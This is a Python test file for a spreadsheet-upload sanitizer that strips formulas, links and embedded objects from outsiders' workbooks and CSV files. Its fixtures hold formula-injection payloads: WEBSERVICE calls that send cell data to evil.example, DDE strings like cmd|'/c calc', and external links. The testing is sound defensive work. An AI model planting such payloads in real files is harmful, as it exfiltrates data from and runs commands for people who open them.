"""What an outsider sent comes back as values only, looked at part by part; else it is refused at the door."""

import csv
import io
import re
import struct
import zipfile
from datetime import date, datetime, time
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from tests.forms.intake import packages
from tests.forms.intake.lists import CALM
from tests.forms.intake.test_d02 import HEAD, UNIT_LINE

from ansinh.forms.intake.annotate import annotate
from ansinh.forms.intake.d02 import read_d02
from ansinh.forms.intake.files import Sheet, Workbook, open_table
from ansinh.forms.intake.inert import DROPPED_SHEET, dropped, values_copy, write_copy
from ansinh.forms.intake.looks import looks_of
from ansinh.kernel.errors import BilingualError

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
KEPT_PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml"
    r"|xl/(workbook|styles|sharedStrings|theme/theme1|worksheets/sheet\d+)\.xml|xl/_rels/workbook\.xml\.rels"
)
KEPT_RELATIONS = {"worksheet", "theme", "styles", "sharedStrings", "officeDocument", "core-properties"}
KEPT_RELATIONS |= {"extended-properties"}
KEPT_ELEMENTS = {
    *("worksheet", "dimension", "sheetViews", "sheetView", "selection", "sheetFormatPr", "cols", "col"),
    *("sheetData", "row", "c", "v", "is", "t", "mergeCells", "mergeCell", "pageMargins", "sheetPr"),
}
SHEET = packages.PARTS["xl/worksheets/sheet1.xml"]
WORKBOOK = packages.PARTS["xl/workbook.xml"]
RELATION = '<Relationship Id="{id}" Type="{kind}" Target="{target}" TargetMode="External"/>'
LINKED = f'<hyperlinks xmlns:r="{packages.OFFICE}"><hyperlink ref="C2" r:id="x1"/></hyperlinks></worksheet>'


def relations(*items: str) -> str:
    return f'<Relationships xmlns="{packages.RELATIONS}">{"".join(items)}</Relationships>'


def formula(words: str, value: str = "<v>5</v>") -> dict[str, str | bytes]:
    return {"xl/worksheets/sheet1.xml": SHEET.replace("<v>7</v>", f"<f>{words}</f>{value}")}


EXTERNAL_LINK = {
    "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook><sheetDataSet><sheetData sheetId='0'/>"
    "</sheetDataSet></externalBook></externalLink>",
    "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
        RELATION.format(
            id="r", kind=f"{packages.OFFICE}/externalLinkPath", target="http://evil.example/a.xlsx"
        )
    ),
}
PIVOT = {
    "xl/pivotCache/pivotCacheDefinition1.xml": '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" '
    'connectionId="1"/></pivotCacheDefinition>',
}
SAID = {
    "a link made by a formula": (formula('HYPERLINK("http://evil.example","bấm")', "<v>5</v>"), "formula"),
    "a web service": (formula('WEBSERVICE("http://evil.example/?"&amp;A1)'), "formula"),
    "DDE in a formula": (formula("cmd|'/c calc'!A0"), "formula"),
    "an array formula": (
        {
            "xl/worksheets/sheet1.xml": SHEET.replace(
                "<v>7</v>", '<f t="array" ref="C2">SUM(A1:A2)</f><v>5</v>'
            )
        },
        "formula",
    ),
    "a dormant external workbook": (EXTERNAL_LINK, "externalLinks"),
    "a hyperlink with an outside target": (
        {
            "xl/worksheets/sheet1.xml": SHEET.replace("</worksheet>", LINKED),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                RELATION.format(id="x1", kind=f"{packages.OFFICE}/hyperlink", target="http://evil.example/")
            ),
        },
        "hyperlink",
    ),
    "a defined name": (
        {
            "xl/workbook.xml": WORKBOOK.replace(
                "</workbook>",
                "<definedNames><definedName name='Auto_Open' "
                "hidden='1'>S!$A$1</definedName></definedNames></workbook>",
            )
        },
        "definedName",
    ),
    "custom XML and its map": (
        {"customXml/item1.xml": "<x/>", "xl/xmlMaps.xml": "<MapInfo><Map ID='1'/></MapInfo>"},
        "customXml",
    ),
    "a pivot cache with an outside source": (PIVOT, "pivots"),
    "printer settings": (
        {"xl/printerSettings/printerSettings1.bin": b"\\\\evil\\printer"},
        "printerSettings",
    ),
    "comments": ({"xl/comments1.xml": "<comments><commentList/></comments>"}, "comments"),
    "a picture": ({"xl/media/image1.png": b"\x89PNG", "xl/drawings/drawing1.xml": "<wsDr/>"}, "drawings"),
    "a validation by formula": (
        {
            "xl/worksheets/sheet1.xml": SHEET.replace(
                "</worksheet>",
                "<dataValidations><dataValidation sqref='A1'>"
                "<formula1>WEBSERVICE(A1)</formula1></dataValidation></dataValidations></worksheet>",
            )
        },
        "dataValidation",
    ),
    "a condition by formula": (
        {
            "xl/worksheets/sheet1.xml": SHEET.replace(
                "</worksheet>",
                "<conditionalFormatting sqref='A1'><cfRule "
                "type='expression'><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting></worksheet>",
            )
        },
        "conditionalFormatting",
    ),
    "an embedded object by name": (
        {
            "xl/worksheets/sheet1.xml": SHEET.replace(
                "</worksheet>",
                "<oleObjects><oleObject link='[1]!x' progId='Package' shapeId='1'/></oleObjects></worksheet>",
            )
        },
        "oleObject",
    ),
    "a ribbon of its own": ({"customUI/customUI.xml": "<customUI onLoad='x'/>"}, "other"),
}
REFUSED = {
    "a macro": {"xl/vbaProject.bin": b"x"},
    "a connection": {"xl/connections.xml": "<connections/>"},
    "a query": {"xl/queryTables/queryTable1.xml": "<queryTable/>"},
    "an embedded file": {"xl/embeddings/oleObject1.bin": b"x"},
    "a control": {"xl/activeX/activeX1.bin": b"x"},
    "a DDE link": {
        "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"
    },
    "a value of another workbook": formula("[1]S!A1"),
    "an outside picture": {
        "xl/drawings/_rels/drawing1.xml.rels": relations(
            RELATION.format(id="r", kind=f"{packages.OFFICE}/image", target="http://evil.example/a.png")
        )
    },
}


def assert_inert(data: bytes) -> openpyxl.Workbook:
    """No part, relation or element but those of plain cells; no formula, no link, by an independent reader."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            assert KEPT_PARTS.fullmatch(name), name
            content = package.read(name)
            assert b"evil" not in content.replace(b"'evil", b""), name
            if name.endswith(".rels"):
                for relation in etree.fromstring(content):
                    assert relation.get("TargetMode") is None
                    assert relation.get("Type").rpartition("/")[2] in KEPT_RELATIONS
            if name.startswith("xl/worksheets/"):
                found = {etree.QName(element).localname for element in etree.fromstring(content).iter()}
                assert found <= KEPT_ELEMENTS, found - KEPT_ELEMENTS
            if name == "xl/workbook.xml":
                tags = {etree.QName(element).localname for element in etree.fromstring(content).iter()}
                assert not tags & {"definedName", "externalReference", "pivotCache", "fileSharing"}
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", cell.coordinate
            assert cell.hyperlink is None
            assert cell.comment is None
    return book


@pytest.mark.parametrize("kind", SAID)
def test_what_could_act_is_left_out_and_said(kind: str) -> None:
    """Both files that were served, the "Lỗi" one and the original, carried all of this to the next reader."""
    changes, name = SAID[kind]
    data = packages.xlsx(changes)
    copy = assert_inert(values_copy(data, "ds.xlsx"))
    assert copy["S"]["B2"].value == "An"
    assert copy["S"]["C2"].value in {5, 7}
    listed = [row[0].value for row in copy[DROPPED_SHEET].iter_rows(min_row=2)]
    (words, _, count) = next(item for item in dropped(open_table(data, "ds.xlsx")) if item[2])
    assert listed[0] == words
    assert count >= 1
    assert name in open_table(data, "ds.xlsx").dropped
    assert_inert(annotate(data, "ds.xlsx", read_d02(data, "ds.xlsx")))


@pytest.mark.parametrize("kind", REFUSED)
def test_what_is_refused_is_never_served(kind: str) -> None:
    data = packages.xlsx(REFUSED[kind])
    for serve in (values_copy, lambda raw, name: annotate(raw, name, read_d02(packages.xlsx(), name))):
        with pytest.raises(BilingualError) as caught:
            serve(data, "ds.xlsx")
        assert caught.value.code in {"macro", "external-links"}


def test_values_keep_their_kind_in_every_sheet() -> None:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as made:
        day = made.add_format({"num_format": "dd/mm/yyyy"})
        sheet = made.add_worksheet("Một")
        sheet.write_string("A1", "0123456789")
        sheet.write_string("A2", '=HYPERLINK("http://x")')
        sheet.write_number("B1", 1.5)
        sheet.write_datetime("C1", datetime.fromisoformat("2026-07-01"), day)
        sheet.write_boolean("D1", True)
        sheet.write_formula("E1", "=1+1", None, 2)
        sheet.write_url("F1", "http://evil.example", string="bấm")
        hidden = made.add_worksheet("Ẩn")
        hidden.write("A1", "giấu")
        hidden.hide()
    data = buffer.getvalue()
    copy = assert_inert(values_copy(data, "a.xlsx"))
    sheet = copy["Một"]
    assert [cell.value for cell in sheet[1]] == ["0123456789", 1.5, datetime(2026, 7, 1), True, 2, "bấm"]  # noqa: DTZ001
    assert sheet["A1"].number_format == "@"
    assert sheet["C1"].number_format == "dd/mm/yyyy"
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == (
        '=HYPERLINK("http://x")',
        "s",
        True,
    )
    assert copy["Ẩn"]["A1"].value == "giấu"
    assert copy["Ẩn"].sheet_state == "visible"
    assert copy.sheetnames[-1] == DROPPED_SHEET


def test_a_workbook_of_values_has_no_list_of_what_was_left_out() -> None:
    assert openpyxl.load_workbook(io.BytesIO(values_copy(packages.xlsx(), "a.xlsx"))).sheetnames == ["S"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "＝"])
def test_no_cell_of_a_csv_becomes_a_formula(start: str) -> None:
    words = f'{start}cmd|"/c calc"!A0'
    line = io.StringIO()
    csv.writer(line, delimiter=";").writerow(["x", words])
    copy = assert_inert(values_copy(line.getvalue().encode(), "a.csv"))
    cell = copy["a"]["B1"]
    assert cell.value == words
    assert (cell.data_type, cell.number_format, cell.quotePrefix) == ("s", "@", True)


def test_old_and_binary_workbooks_come_back_as_values() -> None:
    link = packages.record(0x1B8, b"\0" * 32)
    cells = packages.label_cell(0, 0, "=1+1") + packages.number_cell(0, 1, 7.5) + link
    old = packages.ole({"Workbook": packages.xls_stream(cells)})
    copy = assert_inert(values_copy(old, "a.xls"))
    assert [cell.value for cell in copy["S"][1]] == ["=1+1", 7.5]
    assert copy[DROPPED_SHEET]["A2"].value == "liên kết"
    copy = assert_inert(values_copy(packages.xlsb([(0, [(0, 7.0)])]), "a.xlsb"))
    assert copy["S"]["A1"].value == 7


def test_sheets_of_one_name_and_of_none() -> None:
    """Two names that Excel takes for one ended the writing with an error nobody expected."""
    names = ["A", "a", "A?", "History", "", "'x'", "dài" * 20, "dài" * 20]
    book = Workbook("a.xlsx", "xlsx", [Sheet(name, [["x"]]) for name in names])
    made = openpyxl.load_workbook(io.BytesIO(write_copy(book)))
    assert len({name.lower() for name in made.sheetnames}) == len(names)
    assert all(0 < len(name) <= 31 for name in made.sheetnames)


def test_values_that_no_spreadsheet_holds() -> None:
    row = [10**20, 1e300, date(1700, 1, 1), datetime(1899, 1, 1), time(8, 30), "a\x01\ufffe", "x" * 40_000]  # noqa: DTZ001
    made = openpyxl.load_workbook(io.BytesIO(write_copy(Workbook("a", "csv", [Sheet("S", [row])]))))
    values = [cell.value for cell in made["S"][1]]
    assert values[:5] == [str(10**20), 1e300, "01/01/1700", "01/01/1899", time(8, 30)]
    assert values[5] == "a\ufffd\ufffd"
    assert len(values[6]) == 32_767


def test_merges_that_overlap_or_span_everything_are_left_out() -> None:
    merged = ((1, 1, 1, 2), (1, 2, 1, 3), (1, 1, 1, 1), (2, 1, 200_000, 400), *((3, 1, 4, 2),) * 1000)
    book = Workbook("a", "xlsx", [Sheet("S", [["a", "b", "c"]], merged=merged)])
    made = openpyxl.load_workbook(io.BytesIO(write_copy(book)))
    assert {str(area) for area in made["S"].merged_cells.ranges} == {"A1:B1", "A3:B4"}
    assert made["S"]["C1"].value == "c"


def test_a_large_copy_goes_row_by_row(tmp_path: Path) -> None:
    rows = [["=a", 1, None] for _ in range(20)]
    wide = Sheet("S", [*rows, [None] * 160_000])
    made = write_copy(Workbook("a", "csv", [wide, Sheet("T", [["x"]])]))
    (tmp_path / "a.xlsx").write_bytes(made)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["S"]
    assert [cell.value for cell in sheet[20]] == ["=a", 1]
    assert sheet["A20"].data_type == "s"


STYLES = """<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<numFmts><numFmt numFmtId="164" formatCode="#,##0\\ &quot;đ&quot;"/>
<numFmt numFmtId="165" formatCode="&quot;9999999&quot;"/><numFmt numFmtId="166" formatCode=";;;"/></numFmts>
<fonts><font><name val="Arial"/></font><font><b/><sz val="1e9"/><color rgb="javascript"/><name val="{long}"/></font></fonts>
<fills><fill/><fill><patternFill><fgColor rgb="FF112233"/></patternFill></fill></fills>
<borders><border/><border><left style="thin"/><right style="evil"/></border></borders>
<cellXfs><xf/>{formats}<xf numFmtId="-1" fontId="99" fillId="{long}"/></cellXfs>
<dxfs><dxf><font><b/></font></dxf></dxfs></styleSheet>"""


def test_a_look_is_read_as_properties_never_copied() -> None:
    formats = "".join(f'<xf numFmtId="{n}" fontId="1" fillId="1" borderId="1"/>' for n in (164, 165, 166, 14))
    styles = STYLES.format(formats=formats, long="9" * 5000)
    sheet = SHEET.replace("<sheetData>", '<cols><col min="1" max="2" width="20"/><col min="0" max="9" width="9"/>'
                          '<col min="5" max="99999999999" width="nan"/></cols><sheetData>')  # fmt: skip
    sheet = sheet.replace('r="C2"', 'r="C2" s="1"').replace(
        '<row r="2">', '<row r="2" ht="30" customHeight="1">'
    )
    changes: dict[str, str | bytes] = {"xl/styles.xml": styles, "xl/worksheets/sheet1.xml": sheet}
    changes["xl/_rels/workbook.xml.rels"] = packages.PARTS["xl/_rels/workbook.xml.rels"].replace(
        "</Relationships>",
        f'<Relationship Id="s" Type="{packages.OFFICE}/styles" Target="/xl/styles.xml"/></Relationships>',
    )
    data = packages.xlsx(changes)
    looks = looks_of(data)
    seen = {"bold": True, "bg_color": "#112233", "left": 1, "font_name": "9" * 31 + "…"}
    assert looks.properties[1] == {**seen, "num_format": '#,##0\\ "đ"'}
    assert looks.properties[2:4] == (seen, seen)
    assert looks.properties[4] == {**seen, "num_format": 14}
    assert looks.sheets["S"].formats == {(2, 3): 1}
    assert looks.sheets["S"].heights == {2: 30.0}
    assert [column[:2] for column in looks.sheets["S"].columns] == [(1, 2)]
    book = assert_inert(annotate(data, "a.xlsx", read_d02(data, "a.xlsx")))
    assert book["S"]["C2"].fill.fgColor.rgb == "FF112233"


def test_the_list_with_its_errors_keeps_dead_what_was_typed_into_it() -> None:
    """=WEBSERVICE in the name of a person went to the officer who opened the file, and called out."""
    rows = [UNIT_LINE, HEAD, [1, "x", "12345", "31/02/1980", 5310000, "07/2026", "Tăng mới"]]
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as made:
        sheet = made.add_worksheet("DS")
        for row, line in enumerate(rows):
            sheet.write_row(row, 0, line)
        sheet.write_formula("B3", '=WEBSERVICE("http://evil.example")', None, "Nguyễn Văn A")
        sheet.write_comment("B3", "http://evil.example")
        made.define_name("Evil", "=DS!$A$1")
    data = buffer.getvalue()
    book = assert_inert(annotate(data, "a.xlsx", read_d02(data, "a.xlsx")))
    assert book["DS"]["B3"].value == "Nguyễn Văn A"
    assert "Cột 1 (ô C3)" in book["DS"]["I3"].value


cells = (
    st.none()
    | st.booleans()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.integers()
    | st.text(max_size=40)
)
cells |= st.dates() | st.datetimes() | st.times() | st.timedeltas()


@settings(CALM, max_examples=40)
@given(st.lists(st.lists(cells, max_size=5), max_size=5), st.text(max_size=40))
def test_whatever_a_reader_answers_is_written_inert(rows: list[list[object]], name: str) -> None:
    made = write_copy(Workbook("a", "xlsx", [Sheet(name, rows)]))  # type: ignore[arg-type]  # any cell at all
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        root = etree.fromstring(package.read("xl/worksheets/sheet1.xml"))
    assert root.find(f".//{MAIN}f") is None
    assert root.find(f".//{MAIN}hyperlink") is None


def test_binary_formulas_are_counted() -> None:
    def item(kind: int, body: bytes) -> bytes:
        return bytes([kind, len(body)]) + body

    plain = packages.xlsb([(0, [(0, 7.0)])])
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        sheet = package.read("xl/worksheets/sheet1.bin")
    number = item(5, struct.pack("<IId", 0, 0, 7.0))
    made = item(9, struct.pack("<IIdH", 1, 0, 8.0, 0) + b"\0" * 8)
    data = packages.repacked(plain, {"xl/worksheets/sheet1.bin": sheet.replace(number, number + made)})
    assert open_table(data, "a.xlsb").dropped["formula"] == 1
    assert assert_inert(values_copy(data, "a.xlsb"))["S"]["B1"].value == 8
